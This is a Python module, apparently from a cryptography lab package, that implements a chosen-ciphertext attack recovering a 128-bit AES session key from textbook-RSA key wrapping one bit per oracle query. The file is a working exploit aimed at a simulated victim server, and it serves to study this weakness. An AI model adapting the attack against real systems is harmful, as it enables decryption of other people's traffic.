"""Bit-at-a-time chosen-ciphertext attack on the textbook-RSA key blob.

Let ``C = k^e mod n`` be the captured blob. Multiplying by ``2^(b*e) mod n``
gives a valid encryption of ``2^b * k`` (see
:func:`~wuplab.rsa_core.shift_ciphertext`). For a 128-bit k and a
1024-bit n, ``2^b * k < n``, so there is no modular wraparound. The server
keeps only the low 128 bits, so it derives the AES key
``(k << b) mod 2^128``: the low ``128 - b`` bits of k, moved to the top.

Start at b = 127, where only k's lowest bit survives. Encrypt a fresh
request under the key that assumes that bit is 0. A response means the
guess was right; silence means the bit is 1. Each following step shifts
one bit less and reuses every bit already learned, so one query reveals
one bit and 128 queries reveal k.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Callable

from ..oracle_server import OracleUnavailable
from ..rsa_core import RsaPublicKey, shift_ciphertext
from ..victim_prng import SessionKey
from ..wup_protocol import (
    KEY_BITS,
    DecryptionError,
    EncryptedSession,
    MessageKind,
    WupFormatError,
    WupMessage,
    decrypt_message,
    key_int_to_session_key,
    seal_raw,
)

# Returns the server's response bytes, or None for silence.
OracleFn = Callable[[EncryptedSession], "bytes | None"]


@dataclass
class Cca2Result:
    recovered_key: SessionKey
    queries: int
    per_bit_outcomes: list[bool]
    recovered: bool
    wall_time: float
    transport_retries: int = 0

    def to_json(self, include_time: bool = False) -> dict:
        out = {
            "attack": "cca2",
            "recovered": self.recovered,
            "key": self.recovered_key.hex(),
            "queries": self.queries,
            "responses": sum(self.per_bit_outcomes),
            "transport_retries": self.transport_retries,
        }
        if include_time:
            out["wall_time_s"] = round(self.wall_time, 3)
        return out


def _probe(bit: int) -> WupMessage:
    return WupMessage.build(MessageKind.REQUEST, probe=str(bit), imei="000000000000000")


def cca2_attack(target: EncryptedSession, oracle: OracleFn, pub: RsaPublicKey, *,
                key_bits: int = KEY_BITS, retries: int = 3) -> Cca2Result:
    """Recover the session key of ``target`` with exactly ``key_bits`` oracle queries.

    Transport failures (:class:`OracleUnavailable`) are retried up to
    ``retries`` times without counting as extra queries; silence is never
    retried. ``recovered`` is True only if the recovered key actually
    decrypts the captured payload.
    """
    started = time.perf_counter()
    mask = (1 << key_bits) - 1
    c = target.blob_int
    known = 0
    outcomes: list[bool] = []
    transport_retries = 0
    for b in range(key_bits - 1, -1, -1):
        c_b = shift_ciphertext(pub, c, b)
        # known holds the low (key_bits-1-b) bits of k; the next bit is guessed 0
        candidate = key_int_to_session_key((known << b) & mask, key_bits)
        sess = seal_raw(pub, c_b, candidate, _probe(b))
        for attempt in range(retries + 1):
            try:
                responded = oracle(sess) is not None
                break
            except OracleUnavailable:
                if attempt == retries:
                    raise
                transport_retries += 1
        outcomes.append(responded)
        if not responded:
            known |= 1 << (key_bits - 1 - b)
    key = SessionKey.from_int(known)
    try:
        decrypt_message(key, target.payload)
        recovered = True
    except (DecryptionError, WupFormatError):
        recovered = False
    return Cca2Result(key, len(outcomes), outcomes, recovered,
                      time.perf_counter() - started, transport_retries)
